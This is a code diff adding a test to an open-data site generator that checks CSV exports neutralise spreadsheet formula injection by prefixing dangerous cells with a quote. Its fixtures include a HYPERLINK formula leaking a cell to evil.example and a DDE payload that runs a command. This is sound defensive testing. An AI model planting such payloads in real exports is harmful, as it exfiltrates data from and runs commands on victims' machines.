@@ -7,16 +7,17 @@ import dataclasses
 import io
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
 
 import jsonschema
 
-from generator import BuildReport, opendata
+from generator import BuildReport, build, opendata
 from generator.model import Rank
 from generator.pipeline import check_content
-from tests.conftest import FIXTURES, REPO, TODAY
+from tests.conftest import FIXTURES, REPO, TODAY, copy_site
 
 PUBLISHED = {p.parent.name for p in (REPO / "content" / "pillars").rglob("*.md")} - {
     "neneng-hasanah"
@@ -137,3 +138,35 @@ def test_every_field_the_files_show_is_in_what_decides_whether_to_make_them_agai
             shown.append(field.name)
             assert opendata.data_inputs(edited, {}) != opendata.data_inputs(index, {}), field.name
     assert {"name", "summary", "rank", "province", "year"} <= set(shown)
+
+
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "regency": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "-2+3 warga terbantu.",
+}
+
+
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(tmp_path: Path) -> None:
+    content = copy_site("full", tmp_path)
+    profile = content / "pillars" / "2019" / "citra-dewi.md"
+    text = profile.read_text()
+    for field, value in FORMULAS.items():
+        text = re.sub(rf"(?m)^{field}:.*$", "", text)
+        text = text.replace("---\n", f"---\n{field}: {json.dumps(value)}\n", 1)
+    profile.write_text(text)
+    out = tmp_path / "out"
+    report = build(content, out, today=TODAY)
+    assert report.ok, [p.format() for p in report.problems]
+    raw = (out / "data" / "pilar.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+    row = next(r for r in rows if r["slug"] == "citra-dewi")
+    for field, value in FORMULAS.items():
+        assert row[field] == "'" + value  # shown as text, never run
+    data = json.loads((out / "data" / "pilar.json").read_text("utf-8"))["pilar"]
+    record = next(r for r in data if r["slug"] == "citra-dewi")
+    assert {field: record[field] for field in FORMULAS} == FORMULAS  # the JSON as written
+    others = [r for r in rows if r["slug"] != "citra-dewi"]
+    assert all(not v.startswith("'") for r in others for v in r.values())
+    page = (out / "data" / "index.html").read_text()
+    assert "tanda kutip tunggal" in page
